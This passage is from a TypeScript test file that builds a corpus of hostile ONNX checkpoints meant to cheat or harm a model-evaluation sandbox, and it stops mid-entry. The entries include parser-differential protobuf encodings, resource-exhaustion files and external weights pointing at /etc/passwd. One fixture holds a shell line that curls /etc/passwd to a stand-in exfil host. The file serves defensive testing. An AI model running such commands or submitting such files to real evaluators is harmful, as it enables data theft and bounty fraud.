/**
 * The hostile corpus: checkpoints an adversary would submit to win a bounty
 * without a real model, or to hurt the evaluator. Each entry builds its ONNX
 * bytes (deterministically: the same bytes on every machine), names the spec
 * it is submitted against, the failure codes that are acceptable for it, and
 * the attack in one line. `npm run hostile` evaluates them all in one process
 * through one Sandbox (test/hostile/runner.ts), as the worker would; the small
 * ones are committed under test/hostile/checkpoints/ so people and other tools
 * can inspect and replay them (manifest.json).
 *
 * Most models are built with ml/onnx.ts and onnx-proto. Encodings onnx-proto
 * would never write (a field twice, both members of a oneof, unknown fields,
 * bad varints) are written by hand with `pb`, a tiny protobuf field writer:
 * an ONNX file is a concatenation of fields, so appending a field to a valid
 * encoding is a valid protobuf that means something else.
 *
 * A model refused at validation is still built to be plausible (the interface
 * the spec asks for, a real computation), so that the check named in `expect`
 * is what stops it, not an accident of the encoding.
 */
import type { onnx as OnnxTypes } from "onnx-proto";
import { hindiGptSpec } from "../../core/spec.examples.js";
import type { SandboxFailureCode } from "../../jobs/evaluation/sandbox.js";
import type { ModelLimits } from "../../jobs/evaluation/validate.js";
import {
  buildModel,
  encodeModel,
  IR_VERSION,
  type ModelParts,
  type ModelProto,
  node,
  OPSET_VERSION,
  onnx,
  tensor,
  valueInfo,
} from "../../ml/onnx.js";

export type CorpusSpec = "classification" | "causal-lm" | "regression";

export interface HostileEntry {
  /** Unique, kebab-case: the committed file is `checkpoints/<name>.onnx`. */
  name: string;
  /** The example spec (core/spec.examples.ts) it is submitted against, by task type. */
  spec: CorpusSpec;
  build(): Uint8Array;
  /**
   * Acceptable failure codes: the child's (FailureCode: validation, load, run, output, integrity)
   * and the sandbox's own (`timeout`). `crash` is never expected: the child dying without a reason
   * is not a verdict the corpus accepts.
   */
  expect: readonly SandboxFailureCode[];
  /** The attack, in one line. */
  why: string;
  /** Model limits for this entry's run, over the corpus's (a small cap tests a cap cheaply). */
  limits?: Partial<ModelLimits>;
  /** Too large to commit (over COMMIT_MAX_BYTES): generated at run time, listed in the manifest without a file. */
  large?: boolean;
}

/* ------------------------------------------------------------------------ */
/* A protobuf field writer, for encodings onnx-proto never writes            */
/* ------------------------------------------------------------------------ */

const WIRE_VARINT = 0;
const WIRE_LENGTH = 2;
const WIRE_START_GROUP = 3;

/** Concatenates byte strings. */
export function cat(...parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, p) => sum + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** Protobuf fields by hand: each function returns one encoded field (tag and value). */
export const pb = {
  /** A varint's bytes (negative numbers as 64-bit two's complement, 10 bytes, as protobuf does). */
  varint(value: number | bigint): Uint8Array {
    let v = BigInt.asUintN(64, BigInt(value));
    const out: number[] = [];
    while (v >= 0x80n) {
      out.push(Number(v & 0x7fn) | 0x80);
      v >>= 7n;
    }
    out.push(Number(v));
    return Uint8Array.from(out);
  },
  tag(field: number, wireType: number): Uint8Array {
    return pb.varint(field * 8 + wireType);
  },
  /** A varint field (int32, int64, enum, bool). */
  int(field: number, value: number | bigint): Uint8Array {
    return cat(pb.tag(field, WIRE_VARINT), pb.varint(value));
  },
  /** A length-delimited field: bytes, a string or a message, from its parts. */
  len(field: number, ...parts: readonly Uint8Array[]): Uint8Array {
    const body = cat(...parts);
    return cat(pb.tag(field, WIRE_LENGTH), pb.varint(body.length), body);
  },
  str(field: number, text: string): Uint8Array {
    return pb.len(field, new TextEncoder().encode(text));
  },
};

/** ONNX field numbers the hand-written encodings use (onnx.proto3). */
const F = {
  model: { irVersion: 1, graph: 7, opsetImport: 8, functions: 25 },
  graph: { node: 1, name: 2, initializer: 5, input: 11, output: 12, valueInfo: 13, sparseInitializer: 15 },
  node: { input: 1, output: 2, name: 3, opType: 4, attribute: 5, domain: 7 },
  attribute: { name: 1, i: 3, type: 20 },
  tensor: { dims: 1, dataType: 2, int64Data: 7, name: 8, rawData: 9, externalData: 13, dataLocation: 14 },
  stringEntry: { key: 1, value: 2 },
  valueInfo: { name: 1, type: 2 },
  type: { tensorType: 1, sequenceType: 4 },
  typeTensor: { elemType: 1, shape: 2 },
  typeSequence: { elemType: 1 },
  shape: { dim: 1 },
  dim: { dimValue: 1, dimParam: 2 },
} as const;

const enc = {
  model: (m: OnnxTypes.IModelProto) => onnx.ModelProto.encode(m).finish(),
  graph: (g: OnnxTypes.IGraphProto) => onnx.GraphProto.encode(g).finish(),
  node: (n: OnnxTypes.INodeProto) => onnx.NodeProto.encode(n).finish(),
  tensor: (t: OnnxTypes.ITensorProto) => onnx.TensorProto.encode(t).finish(),
  type: (t: OnnxTypes.ITypeProto) => onnx.TypeProto.encode(t).finish(),
};

/* ------------------------------------------------------------------------ */
/* Building blocks                                                           */
/* ------------------------------------------------------------------------ */

const DataType = onnx.TensorProto.DataType;
const EXTERNAL = onnx.TensorProto.DataLocation.EXTERNAL;
const AttrType = onnx.AttributeProto.AttributeType;
const INT64_MAX = 9_223_372_036_854_775_807n;

/** The blobs classifier's interface (core/spec.examples.ts): features [batch, 8] → logits [batch, 4]. */
const CLS = { input: "features", output: "logits", features: 8, classes: 4 } as const;
/** The linear regressor's: features [batch, 6] → prediction [batch, 2]. */
const REG = { input: "features", output: "prediction", features: 6, outputs: 2 } as const;
/** Hindi GPT's: input_ids int64 [batch, sequence] → logits [batch, sequence, 152]. */
const LM = {
  input: "input_ids",
  output: "logits",
  vocab: hindiGptSpec.task.vocabSize,
  pad: hindiGptSpec.task.padTokenId,
  context: hindiGptSpec.task.contextLength,
} as const;

const i64 = (...values: (number | bigint)[]) => BigInt64Array.from(values.map((v) => BigInt(v)));
const f32 = (...values: number[]) => Float32Array.from(values);
/** A deterministic float in [-0.5, 0.5) for weight index i. */
const weight = (i: number) => ((i * 2_654_435_761) % 1_000) / 1_000 - 0.5;

/** A bool scalar initializer (tensor() has no bool arrays). */
function boolScalar(name: string, value: boolean): OnnxTypes.ITensorProto {
  return { name, dims: [], dataType: DataType.BOOL, rawData: Uint8Array.of(value ? 1 : 0) };
}

const graphAttr = (name: string, g: OnnxTypes.IGraphProto): OnnxTypes.IAttributeProto => ({
  name,
  type: AttrType.GRAPH,
  g,
});
const tensorAttr = (name: string, t: OnnxTypes.ITensorProto): OnnxTypes.IAttributeProto => ({
  name,
  type: AttrType.TENSOR,
  t,
});

/** A node with raw attribute protos (graphs, tensors), beside ml/onnx.ts's typed ones. */
function rawNode(
  opType: string,
  inputs: readonly string[],
  outputs: readonly string[],
  attribute: OnnxTypes.IAttributeProto[],
  domain = "",
): OnnxTypes.INodeProto {
  return {
    opType,
    domain,
    name: `${opType}_${outputs[0] ?? ""}`,
    input: [...inputs],
    output: [...outputs],
    attribute,
  };
}

/** `If(cond)` choosing between two branch graphs that each produce `output`. */
function ifNode(
  cond: string,
  thenBranch: OnnxTypes.IGraphProto,
  elseBranch: OnnxTypes.IGraphProto,
  output: string,
): OnnxTypes.INodeProto {
  return rawNode(
    "If",
    [cond],
    [output],
    [graphAttr("then_branch", thenBranch), graphAttr("else_branch", elseBranch)],
  );
}

/** A branch graph (no inputs: it reads the outer scope) producing `output` of the given shape. */
function branch(
  name: string,
  output: string,
  shape: readonly (number | string)[],
  nodes: OnnxTypes.INodeProto[],
  initializer: OnnxTypes.ITensorProto[] = [],
): OnnxTypes.IGraphProto {
  return { name, node: nodes, initializer, input: [], output: [valueInfo(output, "float32", shape)] };
}

/** The classifier's weights [8, 4] and bias [4]: fixed, small, deterministic. */
function classifierWeights(): OnnxTypes.ITensorProto[] {
  return [
    tensor(
      "W",
      [CLS.features, CLS.classes],
      Float32Array.from({ length: CLS.features * CLS.classes }, (_, i) => weight(i)),
    ),
    tensor("b", [CLS.classes], f32(0.1, -0.1, 0.05, 0)),
  ];
}

interface ClassifierParts {
  /** Where the Gemm writes (default: the output itself). */
  gemmOut?: string;
  /** What the Gemm reads (default: the input), and the nodes that compute it. */
  gemmInputOverride?: string;
  before?: OnnxTypes.INodeProto[];
  nodes?: OnnxTypes.INodeProto[];
  initializers?: OnnxTypes.ITensorProto[];
  inputs?: OnnxTypes.IValueInfoProto[];
  outputs?: OnnxTypes.IValueInfoProto[];
  /** Replaces the weights "W" (an external or odd tensor). */
  weights?: OnnxTypes.ITensorProto;
}

/** The classifier's graph: logits = features W + b, then `nodes`. */
function classifierGraph(parts: ClassifierParts = {}): OnnxTypes.IGraphProto {
  const [w, b] = classifierWeights();
  return {
    name: "hostile_classifier",
    input: parts.inputs ?? [valueInfo(CLS.input, "float32", ["batch", CLS.features])],
    output: parts.outputs ?? [valueInfo(CLS.output, "float32", ["batch", CLS.classes])],
    initializer: [
      parts.weights ?? (w as OnnxTypes.ITensorProto),
      b as OnnxTypes.ITensorProto,
      ...(parts.initializers ?? []),
    ],
    node: [
      ...(parts.before ?? []),
      node("Gemm", [parts.gemmInputOverride ?? CLS.input, "W", "b"], [parts.gemmOut ?? CLS.output]),
      ...(parts.nodes ?? []),
    ],
  };
}

/** A ModelProto (ml/onnx.ts's buildModel: IR 8, opset 17) around `graph`, then `extend` changes it. */
function modelOf(graph: OnnxTypes.IGraphProto, extend?: (model: ModelProto) => void): Uint8Array {
  const parts: ModelParts = {
    graphName: graph.name ?? "hostile",
    inputs: graph.input ?? [],
    outputs: graph.output ?? [],
    initializers: graph.initializer ?? [],
    nodes: graph.node ?? [],
  };
  const model = buildModel(parts);
  model.producerName = "crowdtrain-hostile-corpus";
  if (model.graph) {
    model.graph.sparseInitializer = graph.sparseInitializer ?? [];
    model.graph.valueInfo = graph.valueInfo ?? [];
  }
  extend?.(model);
  return encodeModel(model);
}

const classifier = (parts: ClassifierParts = {}, extend?: (model: ModelProto) => void) =>
  modelOf(classifierGraph(parts), extend);

/** The classifier's bytes without their first field, ir_version (onnx-proto writes it first, 2 bytes). */
function classifierAfterIrVersion(): Uint8Array {
  const bytes = classifier();
  if (bytes[0] !== pb.tag(F.model.irVersion, WIRE_VARINT)[0] || bytes[1] !== IR_VERSION) {
    throw new Error("the classifier's encoding no longer starts with ir_version");
  }
  return bytes.subarray(2);
}

/** A model's bytes with its graph written by hand: the header (IR version, opsets), then `fields`. */
function modelWithFields(...fields: Uint8Array[]): Uint8Array {
  const header = enc.model({
    irVersion: IR_VERSION,
    opsetImport: [{ domain: "", version: OPSET_VERSION }],
    producerName: "crowdtrain-hostile-corpus",
  });
  return cat(header, ...fields);
}

/** The classifier's graph bytes with raw fields appended (repeated fields append; singular ones collide). */
function classifierGraphBytes(parts: ClassifierParts = {}, ...extra: Uint8Array[]): Uint8Array {
  return cat(enc.graph(classifierGraph(parts)), ...extra);
}

/** The classifier's model bytes with raw graph fields appended. */
const classifierWithGraphFields = (parts: ClassifierParts, ...extra: Uint8Array[]) =>
  modelWithFields(pb.len(F.model.graph, classifierGraphBytes(parts, ...extra)));

/** An external-data tensor: the weights' shape and type, the bytes "somewhere else". */
function externalWeights(location: string, flag = true): OnnxTypes.ITensorProto {
  return {
    name: "W",
    dims: [CLS.features, CLS.classes],
    dataType: DataType.FLOAT,
    ...(flag && { dataLocation: EXTERNAL }),
    externalData: [
      { key: "location", value: location },
      { key: "offset", value: "0" },
      { key: "length", value: String(CLS.features * CLS.classes * 4) },
    ],
  };
}

/** Adds `noise` (from the nodes given) to the classifier's logits. */
function noisyClassifier(noise: OnnxTypes.INodeProto[], initializers: OnnxTypes.ITensorProto[] = []) {
  return classifier({
    gemmOut: "clean",
    initializers,
    nodes: [...noise, node("Add", ["clean", "noise"], [CLS.output])],
  });
}

/** The regressor's graph: prediction = features V + c, then `nodes`. */
function regressor(parts: {
  gemmOut?: string;
  nodes?: OnnxTypes.INodeProto[];
  initializers?: OnnxTypes.ITensorProto[];
}) {
  return modelOf({
    name: "hostile_regressor",
    input: [valueInfo(REG.input, "float32", ["batch", REG.features])],
    output: [valueInfo(REG.output, "float32", ["batch", REG.outputs])],
    initializer: [
      tensor(
        "V",
        [REG.features, REG.outputs],
        Float32Array.from({ length: REG.features * REG.outputs }, (_, i) => weight(i + 7)),
      ),
      tensor("c", [REG.outputs], f32(0, 0)),
      ...(parts.initializers ?? []),
    ],
    node: [node("Gemm", [REG.input, "V", "c"], [parts.gemmOut ?? REG.output]), ...(parts.nodes ?? [])],
  });
}

/* Language models over Hindi GPT's interface -------------------------------- */

/** Nodes: `onehot_<name>` [batch, seq, vocab] float = `scale_<name>` × one_hot(ids), via Equal against 0..vocab-1. */
function oneHot(ids: string, name: string): OnnxTypes.INodeProto[] {
  return [
    node("Unsqueeze", [ids, "axis_2"], [`${name}_col`]),
    node("Equal", [`${name}_col`, "vocab_ids"], [`${name}_eq`]),
    node("Cast", [`${name}_eq`], [`${name}_f`], { to: { int: DataType.FLOAT } }),
    node("Mul", [`${name}_f`, `scale_${name}`], [`onehot_${name}`]),
  ];
}

const lmConstants = (...scales: [string, number][]): OnnxTypes.ITensorProto[] => [
  tensor("axis_1", [1], i64(1)),
  tensor("axis_2", [1], i64(2)),
  tensor(
    "vocab_ids",
    [LM.vocab],
    BigInt64Array.from({ length: LM.vocab }, (_, i) => BigInt(i)),
  ),
  ...scales.map(([name, value]) => tensor(`scale_${name}`, [], f32(value))),
];

/** Nodes: `next_ids` [batch, seq] = ids shifted left by one, the last position padded: token t+1 at t. */
function shiftLeft(ids: string): OnnxTypes.INodeProto[] {
  return [
    node("Slice", [ids, "one", "int64_max", "axis_1"], ["after_first"]),
    node("Pad", ["after_first", "pad_end", "pad_token"], ["next_ids"]),
  ];
}

const shiftConstants = (): OnnxTypes.ITensorProto[] => [
  tensor("one", [1], i64(1)),
  tensor("int64_max", [1], i64(INT64_MAX)),
  tensor("pad_end", [4], i64(0, 0, 0, 1)),
  tensor("pad_token", [], i64(LM.pad)),
];

function languageModel(
  nodes: OnnxTypes.INodeProto[],
  initializers: OnnxTypes.ITensorProto[],
  inputShape: (number | string)[] = ["batch", "sequence"],
) {
  return modelOf({
    name: "hostile_lm",
    input: [valueInfo(LM.input, "int64", inputShape)],
    output: [
      valueInfo(LM.output, "float32", [
        inputShape[0] as string | number,
        inputShape[1] as string | number,
        LM.vocab,
      ]),
    ],
    initializer: initializers,
    node: nodes,
  });
}

/**
 * A causal "model" (logits at t = 3 × one_hot(token t) + 0.1: it predicts the token it sees), plus `extra`
 * [.., .., vocab] logits computed by `nodes`: the base every subtle LM below adds its leak to.
 */
function causalPlus(nodes: OnnxTypes.INodeProto[], initializers: OnnxTypes.ITensorProto[]) {
  return languageModel(
    [...oneHot(LM.input, "now"), ...nodes, node("Add", ["onehot_now", "extra"], [LM.output])],
    [...lmConstants(["now", 3]), ...initializers],
  );
}

/* Huge files, written without building objects ------------------------------ */

/** `count` copies of `unit`, by doubling (fast for tens of millions). */
function repeated(unit: Uint8Array, count: number): Uint8Array {
  const out = new Uint8Array(unit.length * count);
  out.set(unit, 0);
  let filled = unit.length;
  while (filled < out.length) {
    const n = Math.min(filled, out.length - filled);
    out.copyWithin(filled, 0, n);
    filled += n;
  }
  return out;
}

/** A graph field whose body is the classifier's graph followed by `count` copies of `unit`. */
function hugeGraph(unit: Uint8Array, count: number): Uint8Array {
  const graph = classifierGraphBytes();
  const body = repeated(unit, count);
  const length = graph.length + body.length;
  return cat(modelWithFields(), pb.tag(F.model.graph, WIRE_LENGTH), pb.varint(length), graph, body);
}

/** 32 million: the ~61 MiB of empty messages the brief asks for. */
const HUGE_COUNT = 32_000_000;

/* ------------------------------------------------------------------------ */
/* The corpus                                                                */
/* ------------------------------------------------------------------------ */

const REFUSED_BY_WIRE = ["non_canonical"] as const;

export const CORPUS: readonly HostileEntry[] = [
  /* Repeated fields, and other encodings two decoders read differently ------ */
  {
    name: "second-graph-random",
    spec: "classification",
    why: "a second ModelProto.graph field with a RandomNormal node: protobufjs keeps the last graph, onnxruntime's C++ merges both",
    expect: REFUSED_BY_WIRE,
    build: () =>
      modelWithFields(
        pb.len(
          F.model.graph,
          enc.graph({
            node: [
              node("RandomNormal", [], ["noise"], { shape: { ints: [1, CLS.classes] }, scale: { float: 5 } }),
            ],
          }),
        ),
        pb.len(F.model.graph, classifierGraphBytes()),
      ),
  },
  {
    name: "second-graph-external-data",
    spec: "classification",
    why: "a second graph field whose initializer W points at /etc/passwd: merged by onnxruntime, invisible to protobufjs",
    expect: REFUSED_BY_WIRE,
    build: () =>
      modelWithFields(
        pb.len(F.model.graph, enc.graph({ initializer: [externalWeights("/etc/passwd")] })),
        pb.len(F.model.graph, classifierGraphBytes()),
      ),
  },
  {
    name: "second-graph-loop",
    spec: "classification",
    why: "a second graph field holding a Loop and a custom-domain op, hidden behind a clean last graph",
    expect: REFUSED_BY_WIRE,
    build: () =>
      modelWithFields(
        pb.len(
          F.model.graph,
          enc.graph({
            node: [
              rawNode("Loop", ["", ""], ["spin"], [graphAttr("body", { name: "body", node: [] })]),
              rawNode("Exfiltrate", ["features"], ["leak"], [], "com.evil"),
            ],
          }),
        ),
        pb.len(F.model.graph, classifierGraphBytes()),
      ),
  },
  {
    name: "node-op-type-twice",
    spec: "classification",
    why: "a node with op_type Identity then RandomNormalLike: which one runs depends on the decoder",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { gemmOut: "clean" },
        pb.len(
          F.graph.node,
          pb.str(F.node.input, "clean"),
          pb.str(F.node.output, CLS.output),
          pb.str(F.node.opType, "Identity"),
          pb.str(F.node.opType, "RandomNormalLike"),
        ),
      ),
  },
  {
    name: "tensor-data-location-twice",
    spec: "classification",
    why: "an initializer whose data_location is EXTERNAL then DEFAULT, with external_data entries: half external",
    expect: REFUSED_BY_WIRE,
    build: () => {
      const w = enc.tensor({ ...externalWeights("model.data"), dataLocation: undefined, externalData: [] });
      return classifierWithGraphFields(
        { weights: { name: "unused_w_slot", dims: [0], dataType: DataType.FLOAT } },
        pb.len(
          F.graph.initializer,
          w,
          pb.len(
            F.tensor.externalData,
            pb.str(F.stringEntry.key, "location"),
            pb.str(F.stringEntry.value, "model.data"),
          ),
          pb.int(F.tensor.dataLocation, EXTERNAL),
          pb.int(F.tensor.dataLocation, 0),
        ),
      );
    },
  },
  {
    name: "initializer-raw-data-twice",
    spec: "classification",
    why: "the weights' raw_data given twice with different bytes: the validator sees one tensor, the runtime another",
    expect: REFUSED_BY_WIRE,
    build: () => {
      const values = (sign: number) =>
        new Uint8Array(
          Float32Array.from({ length: CLS.features * CLS.classes }, (_, i) => sign * weight(i)).buffer,
        );
      return classifierWithGraphFields(
        { weights: { name: "unused_w_slot", dims: [0], dataType: DataType.FLOAT } },
        pb.len(
          F.graph.initializer,
          pb.int(F.tensor.dims, CLS.features),
          pb.int(F.tensor.dims, CLS.classes),
          pb.int(F.tensor.dataType, DataType.FLOAT),
          pb.str(F.tensor.name, "W"),
          pb.len(F.tensor.rawData, values(1)),
          pb.len(F.tensor.rawData, values(-1)),
        ),
      );
    },
  },
  {
    name: "unknown-field-model",
    spec: "classification",
    why: "ModelProto field 99 (undefined): one decoder drops it, another keeps it as an unknown field",
    expect: REFUSED_BY_WIRE,
    build: () => cat(classifier(), pb.str(99, "hello from the future")),
  },
  {
    name: "unknown-field-node",
    spec: "classification",
    why: "an undefined field (NodeProto 8, a later ONNX's 'overload') inside the Gemm node",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { gemmOut: "clean" },
        pb.len(F.graph.node, enc.node(node("Identity", ["clean"], [CLS.output])), pb.str(8, "overloaded")),
      ),
  },
  {
    name: "unknown-field-deep-dimension",
    spec: "classification",
    why: "an undefined field deep in a graph output's TypeProto.Tensor.shape.dim",
    expect: REFUSED_BY_WIRE,
    build: () => {
      const dim = (value: Uint8Array) => pb.len(F.shape.dim, value);
      const output = pb.len(
        F.graph.output,
        pb.str(F.valueInfo.name, CLS.output),
        pb.len(
          F.valueInfo.type,
          pb.len(
            F.type.tensorType,
            pb.int(F.typeTensor.elemType, DataType.FLOAT),
            pb.len(
              F.typeTensor.shape,
              dim(pb.str(F.dim.dimParam, "batch")),
              dim(cat(pb.int(F.dim.dimValue, CLS.classes), pb.int(7, 1))),
            ),
          ),
        ),
      );
      return classifierWithGraphFields({ outputs: [] }, output);
    },
  },
  {
    name: "oneof-dim-value-and-param",
    spec: "classification",
    why: "a dimension with both dim_value 4 and dim_param 'classes' (one oneof): each decoder keeps a different one",
    expect: REFUSED_BY_WIRE,
    build: () => {
      const output = pb.len(
        F.graph.output,
        pb.str(F.valueInfo.name, CLS.output),
        pb.len(
          F.valueInfo.type,
          pb.len(
            F.type.tensorType,
            pb.int(F.typeTensor.elemType, DataType.FLOAT),
            pb.len(
              F.typeTensor.shape,
              pb.len(F.shape.dim, pb.str(F.dim.dimParam, "batch")),
              pb.len(F.shape.dim, pb.int(F.dim.dimValue, CLS.classes), pb.str(F.dim.dimParam, "classes")),
            ),
          ),
        ),
      );
      return classifierWithGraphFields({ outputs: [] }, output);
    },
  },
  {
    name: "oneof-tensor-and-sequence-type",
    spec: "classification",
    why: "the input's TypeProto sets tensor_type and sequence_type: a tensor to the validator, a sequence to the last-wins reader",
    expect: REFUSED_BY_WIRE,
    build: () => {
      const tensorType = pb.len(
        F.type.tensorType,
        pb.int(F.typeTensor.elemType, DataType.FLOAT),
        pb.len(
          F.typeTensor.shape,
          pb.len(F.shape.dim, pb.str(F.dim.dimParam, "batch")),
          pb.len(F.shape.dim, pb.int(F.dim.dimValue, CLS.features)),
        ),
      );
      const input = pb.len(
        F.graph.input,
        pb.str(F.valueInfo.name, CLS.input),
        pb.len(
          F.valueInfo.type,
          tensorType,
          pb.len(F.type.sequenceType, pb.len(F.typeSequence.elemType, tensorType)),
        ),
      );
      return classifierWithGraphFields({ inputs: [] }, input);
    },
  },
  {
    name: "enum-attribute-type-99",
    spec: "classification",
    why: "an AttributeProto whose type is 99: proto2 C++ turns it into an unknown field, protobufjs keeps 99",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { gemmOut: "clean" },
        pb.len(
          F.graph.node,
          pb.str(F.node.input, "clean"),
          pb.str(F.node.output, CLS.output),
          pb.str(F.node.opType, "LeakyRelu"),
          pb.len(
            F.node.attribute,
            pb.str(F.attribute.name, "alpha"),
            pb.int(F.attribute.type, 99),
            pb.int(F.attribute.i, 1),
          ),
        ),
      ),
  },
  {
    name: "enum-data-location-2",
    spec: "classification",
    why: "an initializer with data_location 2 (undefined: neither DEFAULT nor EXTERNAL) and external_data entries",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { weights: { name: "unused_w_slot", dims: [0], dataType: DataType.FLOAT } },
        pb.len(
          F.graph.initializer,
          enc.tensor({ ...externalWeights("model.data", false) }),
          pb.int(F.tensor.dataLocation, 2),
        ),
      ),
  },
  {
    name: "invalid-utf8-op-type",
    spec: "classification",
    why: "op_type 'Rel\\xffu' (invalid UTF-8): protobufjs reads 'Rel\\ufffdu', C++ keeps the raw bytes",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { gemmOut: "clean" },
        pb.len(
          F.graph.node,
          pb.str(F.node.input, "clean"),
          pb.str(F.node.output, CLS.output),
          pb.len(F.node.opType, Uint8Array.of(0x52, 0x65, 0x6c, 0xff, 0x75)),
        ),
      ),
  },
  {
    name: "invalid-utf8-name",
    spec: "classification",
    why: "a graph output named 'logits\\xc0' (invalid UTF-8): two decoders disagree on which tensor is the output",
    expect: REFUSED_BY_WIRE,
    build: () =>
      classifierWithGraphFields(
        { outputs: [], gemmOut: "logits_raw" },
        pb.len(
          F.graph.output,
          pb.len(F.valueInfo.name, cat(new TextEncoder().encode(CLS.output), Uint8Array.of(0xc0))),
          pb.len(
            F.valueInfo.type,
            enc.type(valueInfo(CLS.output, "float32", ["batch", CLS.classes]).type ?? {}),
          ),
        ),
      ),
  },
  {
    name: "overlong-varint",
    spec: "classification",
    why: "ir_version written as an 11-byte varint (protobuf allows at most 10)",
    expect: ["not_onnx"],
    build: () =>
      cat(
        pb.tag(F.model.irVersion, WIRE_VARINT),
        Uint8Array.of(0x88, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x00),
        classifierAfterIrVersion(),
      ),
  },
  {
    name: "padded-varint",
    spec: "classification",
    why: "ir_version 8 written as the non-minimal varint 0x88 0x80 0x00: same value, another encoding of it",
    expect: ["non_canonical", "not_onnx"],
    build: () =>
      cat(
        pb.tag(F.model.irVersion, WIRE_VARINT),
        Uint8Array.of(0x88, 0x80, 0x00),
        classifierAfterIrVersion(),
      ),
  },
  {
    name: "seven-byte-length-varint",
    spec: "classification",
    why: "the graph's length as a 7-byte padded varint: protobufjs reads 32-bit varints in 5 bytes, then out of step",
    expect: ["non_canonical", "not_onnx"],
    build: () => {
      const graph = classifierGraphBytes();
      const length = graph.length;
      const padded = Uint8Array.of(
        (length & 0x7f) | 0x80,
        ((length >> 7) & 0x7f) | 0x80,
        ((length >> 14) & 0x7f) | 0x80,
        0x80,
        0x80,
        0x80,
        0x00,
      );
      return cat(modelWithFields(), pb.tag(F.model.graph, WIRE_LENGTH), padded, graph);
    },
  },
  {
    name: "length-past-end",
    spec: "classification",
    why: "the graph field claims 1 MiB more bytes than the file has",
    expect: ["not_onnx"],
    build: () => {
      const graph = classifierGraphBytes();
      return cat(
        modelWithFields(),
        pb.tag(F.model.graph, WIRE_LENGTH),
        pb.varint(graph.length + 1024 ** 2),
        graph,
      );
    },
  },
  {
    name: "wire-type-mismatch",
    spec: "classification",
    why: "ir_version sent as a length-delimited field (wire type 2) instead of a varint",
    expect: ["non_canonical", "not_onnx"],
    build: () => cat(pb.str(F.model.irVersion, "8"), classifierAfterIrVersion()),
  },
  {
    name: "wire-type-group",
    spec: "classification",
    why: "a deprecated start-group (wire type 3) field inside the graph",
    expect: ["not_onnx", "non_canonical"],
    build: () => classifierWithGraphFields({}, pb.tag(F.graph.node, WIRE_START_GROUP)),
  },
  {
    name: "truncated",
    spec: "classification",
    why: "a valid classifier cut in half",
    expect: ["not_onnx"],
    build: () => {
      const bytes = classifier();
      return bytes.slice(0, Math.floor(bytes.length / 2));
    },
  },
  {
    name: "empty-file",
    spec: "classification",
    why: "zero bytes",
    expect: ["not_onnx"],
    build: () => new Uint8Array(0),
  },
  {
    name: "not-a-model",
    spec: "regression",
    why: "a text file named model.onnx",
    expect: ["not_onnx"],
    build: () => new TextEncoder().encode("#!/bin/sh\ncurl http://example.invalid/exfil -d @/etc/passwd\n"),
  },

  /* Huge repeated nodes, deep nesting --------------------------------------- */
  {
    name: "32m-empty-nodes",
    spec: "classification",
    why: "32 million empty NodeProtos (61 MiB): decoding them would build 32 million objects",
    expect: ["too_complex"],
    large: true,
    build: () => hugeGraph(pb.len(F.graph.node), HUGE_COUNT),
  },
  {
    name: "32m-empty-value-infos",
    spec: "classification",
    why: "32 million empty ValueInfoProtos in graph.value_info (61 MiB): not nodes, so not counted as nodes",
    expect: ["too_complex", "memory"],
    large: true,
    build: () => hugeGraph(pb.len(F.graph.valueInfo), HUGE_COUNT),
  },
  {
    name: "30m-packed-int64-data",
    spec: "classification",
    why: "an unused int64 initializer [30M] as packed int64_data, 1 byte per value (30 MB): 240 MiB in memory, under the cap, 30M numbers to decode",
    expect: ["too_complex", "initializers", "memory"],
    large: true,
    build: () => {
      const count = 30_000_000;
      const values = cat(pb.tag(F.tensor.int64Data, WIRE_LENGTH), pb.varint(count), new Uint8Array(count));
      const initializer = pb.len(
        F.graph.initializer,
        pb.int(F.tensor.dims, count),
        pb.int(F.tensor.dataType, DataType.INT64),
        pb.str(F.tensor.name, "many_zeros"),
        values,
      );
      return classifierWithGraphFields({}, initializer);
    },
  },
  {
    name: "deep-if-nesting",
    spec: "classification",
    why: "If nested in If 400 levels deep (1,200 message levels): a recursive decoder's stack, a recursive walk's time",
    expect: ["too_complex"],
    build: () => {
      const shape = ["batch", CLS.classes];
      const identity = (out: string) =>
        branch(`pass_${out}`, out, shape, [node("Identity", ["clean"], [out])]);
      let inner = identity("out_0");
      for (let level = 1; level <= 400; level++) {
        const out = `out_${level}`;
        inner = branch(`level_${level}`, out, shape, [ifNode("cond", inner, identity(`else_${level}`), out)]);
      }
      return classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [ifNode("cond", inner, identity("else_0"), CLS.output)],
      });
    },
  },
  {
    name: "deep-sequence-type",
    spec: "classification",
    why: "a value_info whose type is sequence(sequence(...(tensor))) 5,000 levels deep (10,000 message levels)",
    expect: ["too_complex"],
    build: () => {
      // Built inside out, in one buffer, so the build stays linear.
      let type = pb.len(F.type.tensorType, pb.int(F.typeTensor.elemType, DataType.FLOAT));
      for (let level = 0; level < 5_000; level++) {
        type = pb.len(F.type.sequenceType, pb.len(F.typeSequence.elemType, type));
      }
      return classifierWithGraphFields(
        {},
        pb.len(F.graph.valueInfo, pb.str(F.valueInfo.name, "deep"), pb.len(F.valueInfo.type, type)),
      );
    },
  },

  /* Forbidden ops in subgraphs and functions --------------------------------- */
  {
    name: "if-then-random-uniform",
    spec: "classification",
    why: "If(true) whose then_branch adds RandomUniform noise: the main graph holds only allowed ops",
    expect: ["nondeterministic"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [
          ifNode(
            "cond",
            branch(
              "noisy",
              "then_out",
              ["batch", CLS.classes],
              [
                node("RandomUniform", [], ["noise"], {
                  shape: { ints: [1, CLS.classes] },
                  high: { float: 3 },
                }),
                node("Add", ["clean", "noise"], ["then_out"]),
              ],
            ),
            branch("clean", "else_out", ["batch", CLS.classes], [node("Identity", ["clean"], ["else_out"])]),
            CLS.output,
          ),
        ],
      }),
  },
  {
    name: "if-then-loop",
    spec: "classification",
